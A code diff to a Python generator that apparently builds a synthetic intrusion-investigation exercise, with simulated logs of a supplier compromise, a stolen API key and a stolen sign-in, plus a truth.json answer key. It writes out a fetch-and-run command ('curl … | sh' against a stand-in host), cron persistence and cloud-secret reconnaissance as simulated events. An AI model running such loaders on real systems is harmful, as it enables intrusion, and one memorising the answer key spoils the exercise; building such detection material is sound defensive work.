@@ -1,13 +1,15 @@
 """Oxbow Cartography, hit through three doors: the supplier's channel, a stolen API key, a stolen sign-in."""
+import gzip
 import hashlib
 import json
 
 from making.case import compact
 from making.chance import HOUR, MINUTE, SECOND, rfc3339
-from making.oxbow import (BADGES, BUILD_KEY, DESK, HEDDA, OXBOW, PAYROLL, PIET, STOCK, TILES_KEY, WINDOW,
-                          WINDOWS_AGENT, Seat, act, at, command_body, company, console_sign_in, everyday, look_alikes,
-                          ordered, payroll_life, portal_sign_in, rotation_by_supplier, start, sysmon, visit)
-from making.records import AGENT, cloud, osquery, touch
+from making.oxbow import (BADGES, BUILD_KEY, HEDDA, PAYROLL, PIET, POWERSHELL, STOCK, TILES_KEY, WINDOW,
+                          WINDOWS_AGENT, Seat, act, at, call_cloud, command_body, company, console_sign_in, everyday,
+                          look_alikes, ordered, payroll_life, portal_sign_in, rotation_by_supplier, start, sysmon,
+                          visit)
+from making.records import AGENT, osquery, touch
 from making.writing import ALIASES, render, times_of
 
 # What the notice lists …
@@ -17,9 +19,9 @@ TILECACHED_SHA256 = hashlib.sha256(b"clew example: the tilecached that never was
 RESEARCHED = [CONTROL, DELIVERY, "windrose-api.example", "seamark.invalid"]
 # … and what nobody has published.
 UNLISTED, UNLISTED_ADDRESS = "gridref.example", "198.18.91.3"
+LOADER = "curl -fsS https://get.%s/b | sh" % UNLISTED
 INTRUDER_DESK, INTRUDER_CLOUD = "203.0.113.147", "203.0.113.163"
 CODE = hashlib.sha1(b"clew example: code of the tilecached").hexdigest()
-POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 
 
 # ---------------------------------------------------------------- what the intruder does on a device
@@ -50,17 +52,11 @@ def on_a_mac(case, host, begun, script, interpreter, tag):
     return program, pid
 
 
-def on_a_server(case, host, begun, tag, first=True):
+def on_a_server(case, host, begun, shell, pid, tag):
     """Nothing of it is published: a loader through a pipe, a cron job, calls to a name that nobody else knows."""
-    loader = "curl -fsS https://get.%s/b | sh" % UNLISTED
-    if first:
-        shell = start(case, begun, host, "/bin/sh", "/bin/sh -c " + loader, AGENT, host.pid, "I1_" + tag, "root")
-    else:
-        shell = host.pid
-    start(case, begun + SECOND, host, "/usr/bin/curl", "curl -fsS https://get.%s/b" % UNLISTED, "/bin/sh", shell,
-          "I2_" + tag, "root")
+    start(case, begun + SECOND, host, "/usr/bin/curl", LOADER.partition(" |")[0], shell, pid, "I2_" + tag, "root")
     visit(case, begun + 1400, host, "get." + UNLISTED, UNLISTED_ADDRESS, "I2_" + tag, 720, 41_330)
-    inner = start(case, begun + 2 * SECOND, host, "/bin/sh", "sh", "/bin/sh", shell, "I3_" + tag, "root")
+    inner = start(case, begun + 2 * SECOND, host, "/bin/sh", "sh", shell, pid, "I3_" + tag, "root")
     start(case, begun + 5 * SECOND, host, "/usr/bin/crontab", "crontab -", "/bin/sh", inner, "I4_" + tag, "root")
     for beat in range(8):
         visit(case, begun + 10 * MINUTE + beat * (30 * MINUTE + 700), host, "get." + UNLISTED, UNLISTED_ADDRESS,
@@ -90,11 +86,13 @@ def on_a_pc(case, host, begun, tag):
 
 
 def in_the_cloud(case, begun):
-    calls = [(("sts", "GetCallerIdentity"), None, None), (("iam", "ListGroupsForUser"), {"userName": "svc-tiles"}, None),
-             (("ssm", "DescribeParameters"), None, None), (("ssm", "GetParameter"), {"name": "/tiles/upload-seal"}, None),
+    calls = [(("sts", "GetCallerIdentity"), None, None),
+             (("iam", "ListGroupsForUser"), {"userName": "svc-tiles"}, None),
+             (("ssm", "DescribeParameters"), None, None),
+             (("ssm", "GetParameter"), {"name": "/tiles/upload-seal"}, None),
              (("iam", "CreateUser"), {"userName": "svc-mirror"}, "AccessDenied")]
     for beat, (call, parameters, error) in enumerate(calls):
-        cloud(case, begun + beat * 3 * MINUTE, "svc-tiles", TILES_KEY, call, INTRUDER_CLOUD, "Boto3/1.36.2",
+        call_cloud(case, begun + beat * 3 * MINUTE, "svc-tiles", TILES_KEY, call, INTRUDER_CLOUD, "Boto3/1.36.2",
               parameters, "I8_cloud", error)
 
 
@@ -103,7 +101,9 @@ def in_the_cloud(case, begun):
 def pushed(case):
     """Nobody at Oxbow ordered it: the supplier's agent begins by itself, on a Mac and then on a server."""
     on_a_mac(case, case.hosts["contour"], at(6, "02:41:18"), "/private/var/tmp/.relief.pl", "/usr/bin/perl", "contour")
-    on_a_server(case, case.hosts["tiles-1"], at(6, "05:17:44"), "tiles-1")
+    server, begun = case.hosts["tiles-1"], at(6, "05:17:44")
+    pid = start(case, begun, server, "/bin/sh", "/bin/sh -c " + LOADER, AGENT, server.pid, "I1_tiles-1", "root")
+    on_a_server(case, server, begun, "/bin/sh", pid, "tiles-1")
     in_the_cloud(case, at(6, "09:30:12"))
     payroll_life(case)
     rotation_by_supplier(case, [HEDDA, PIET, BADGES, PAYROLL, STOCK])
@@ -141,9 +141,8 @@ def stolen_session(case):
             act(case, begun + 3 * MINUTE, "command_run", HEDDA, seat, command_body(title), "I0_order_hachure", host)
             on_a_mac(case, mac, begun + 3 * MINUTE + 8 * SECOND, "/private/tmp/seals.py", "/usr/bin/python3", "hachure")
         else:
-            loader = "curl -fsS https://get.%s/b | sh" % UNLISTED
-            server.pid = ordered(case, begun + 3 * MINUTE, HEDDA, seat, server, title, loader, "I0_order_tiles-1")
-            on_a_server(case, server, begun + 3 * MINUTE + 8 * SECOND, "tiles-1", first=False)
+            pid = ordered(case, begun + 3 * MINUTE, HEDDA, seat, server, title, LOADER, "I0_order_tiles-1")
+            on_a_server(case, server, begun + 3 * MINUTE + 8 * SECOND, "/bin/bash", pid, "tiles-1")
     in_the_cloud(case, at(6, "08:40:31"))
 
 
@@ -350,7 +349,9 @@ def make(name):
     contents, places, streams = render(case)
     truth = truth_of(case, plan, places, streams)
     files = {"notice.md": notice_of(name), "truth.json": (compact_truth(truth) + "\n").encode()}
-    return files | {"evidence/" + file: content for file, content in contents.items()}
+    for file, content in contents.items():
+        files["evidence/" + file] = gzip.compress(content, 9, mtime=0) if file.endswith(".gz") else content
+    return files
 
 
 def compact_truth(truth):
